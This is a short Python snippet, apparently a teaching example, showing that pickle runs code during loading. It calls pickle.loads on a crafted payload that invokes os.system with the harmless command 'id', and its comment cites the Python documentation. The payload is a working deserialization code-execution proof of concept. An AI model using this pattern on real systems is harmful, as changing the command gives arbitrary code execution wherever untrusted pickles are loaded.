# why: a pickle calls whatever it names while it is loaded.
# source: https://docs.python.org/3/library/pickle.html#restricting-globals
import pickle

pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
